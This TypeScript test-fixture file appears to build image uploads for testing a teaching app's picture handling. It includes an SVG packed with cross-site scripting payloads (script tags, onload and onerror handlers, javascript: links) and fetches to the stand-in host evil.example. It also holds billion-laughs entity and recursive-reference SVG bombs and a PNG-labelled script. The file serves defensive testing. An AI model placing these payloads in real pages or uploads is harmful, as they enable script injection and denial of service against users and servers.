import sharp from "sharp";

/** A file as a teacher has it, to be chosen, dragged or pasted. */
export interface PictureFile {
  readonly name: string;
  readonly type: string;
  readonly bytes: Buffer;
}

const svg = (name: string, inside: string, attributes: string, before = ""): PictureFile => ({
  name,
  type: "image/svg+xml",
  bytes: Buffer.from(
    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`,
  ),
});

/** Red, and larger than a picture is kept. */
export async function largePng(): Promise<PictureFile> {
  const red = { width: 2400, height: 1200, channels: 3, background: "#c03030" } as const;
  return { name: "red.png", type: "image/png", bytes: await sharp({ create: red }).png().toBuffer() };
}

/** Lies on its side, and says so: it is to be seen standing. */
export async function turnedJpeg(): Promise<PictureFile> {
  const blue = { width: 300, height: 100, channels: 3, background: "#3050c0" } as const;
  const bytes = await sharp({ create: blue }).withMetadata({ orientation: 6 }).jpeg().toBuffer();
  return { name: "turned.jpg", type: "image/jpeg", bytes };
}

/** Tries all that a drawing could do if it were more than pixels. */
export const hostileSvg = svg(
  "hostile.svg",
  `<script>fetch("https://evil.example/script");document.title="run"</script>
  <foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/img" onerror="alert(1)"/></body></foreignObject>
  <image href="https://evil.example/image" width="5" height="5"/><use href="https://evil.example/use.svg#a"/>
  <style>@import url(https://evil.example/style); rect { fill: url(https://evil.example/fill#a) }</style>
  <rect width="20" height="10" fill="#30a060"/><set attributeName="onload" to="alert(1)"/>
  <a xlink:href="javascript:alert(1)"><circle r="3"/></a>`,
  'viewBox="0 0 20 10" onload="alert(1)"',
);

/** Whose view is larger than any canvas. */
export const hugeSvg = svg(
  "huge.svg",
  '<rect width="1e9" height="1e9" fill="#a030a0"/>',
  'viewBox="0 0 1e9 1e9" width="1000000" height="1000000"',
);

const lol = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
).join("");

export const bombs: readonly PictureFile[] = [
  svg("entities.svg", "<text>&l9;</text>", 'viewBox="0 0 9 9"', `<!DOCTYPE svg [<!ENTITY l0 "lol">${lol}]>`),
  svg(
    "references.svg",
    `<g id="g0"><path d="M0 0h9v9z"/></g>${Array.from(
      { length: 9 },
      (_, index) => `<g id="g${index + 1}">${`<use href="#g${index}"/>`.repeat(10)}</g>`,
    ).join("")}`,
    'viewBox="0 0 9 9"',
  ),
  { name: "page.png", type: "image/png", bytes: Buffer.from("<script>alert(1)</script>") },
];
